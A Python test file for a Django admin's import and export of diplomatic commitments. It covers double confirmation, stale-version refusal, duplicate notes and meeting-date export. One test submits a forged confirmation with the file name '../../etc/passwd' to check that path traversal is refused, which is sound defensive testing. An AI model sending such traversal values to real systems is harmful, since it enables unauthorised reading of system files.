    assert exported[0]["parties"] in ("G7|JP|US", "JP|US|G7")
    assert (exported[0]["target_date"], exported[0]["version"]) == ("2023-03-31", "1")


def test_confirming_twice_imports_once(admin_client):
    meeting = MeetingFactory()
    preview = _import(admin_client, "commitment", _csv_bytes(_new_rows(meeting)), "c.csv")
    _confirm(admin_client, "commitment", preview)
    again = _confirm(admin_client, "commitment", preview)  # a double click, or the back button
    assert again.status_code == 200
    assert "This import was already confirmed" in again.text
    assert Commitment.objects.count() == 1


def test_a_forged_confirmation_is_refused_without_an_error_page(admin_client):
    data = {
        "import_file_name": "../../etc/passwd",
        "original_file_name": "c.csv",
        "format": "99",
        "resource": "0",
    }
    response = admin_client.post(
        reverse("admin:tracker_commitment_process_import"), data, follow=True
    )
    assert response.status_code == 200
    assert "This import was already confirmed" in response.text


def test_reimporting_a_file_with_notes_writes_each_note_once(admin_client, commitments):
    full = commitments[0]
    rows = _csv_rows(_export(admin_client, "commitment", "csv"))
    row = next(r for r in rows if r["id"] == str(full.pk))
    row.update(confidence="amber", note="Budget delayed.")
    upload = _csv_bytes([row])
    _confirm(admin_client, "commitment", _import(admin_client, "commitment", upload, "c.csv"))
    entries = full.status_updates.count()
    # The same file again: its version is now stale, so it is refused, and nothing is written.
    again = _import(admin_client, "commitment", upload, "c.csv")
    assert "was changed after this file was exported" in _errors(again)
    # An export of the new state with the note still in it changes nothing either.
    rows = _csv_rows(_export(admin_client, "commitment", "csv"))
    row = next(r for r in rows if r["id"] == str(full.pk))
    row["note"] = "Budget delayed."
    preview = _import(admin_client, "commitment", _csv_bytes([row]), "c.csv")
    _confirm(admin_client, "commitment", preview)
    assert full.status_updates.count() == entries
    assert full.status_updates.latest().note == "Budget delayed."


def test_the_export_names_the_origin_meeting_by_title_and_local_date(admin_client):
    meeting = MeetingFactory(
        title="Japan-U.S. Foreign Ministers' Meeting",
        starts_at=aware("2022-07-29 13:43", "America/New_York"),
        time_zone="America/New_York",
    )
    CommitmentFactory(origin_meeting=meeting)
    row = _csv_rows(_export(admin_client, "commitment", "csv"))[0]
    # The local date, not Tokyo's (it was already 30 July there).
    assert row["origin_meeting"] == "Japan-U.S. Foreign Ministers' Meeting (2022-07-29)"
    assert row["origin_meeting_id"] == str(meeting.pk)
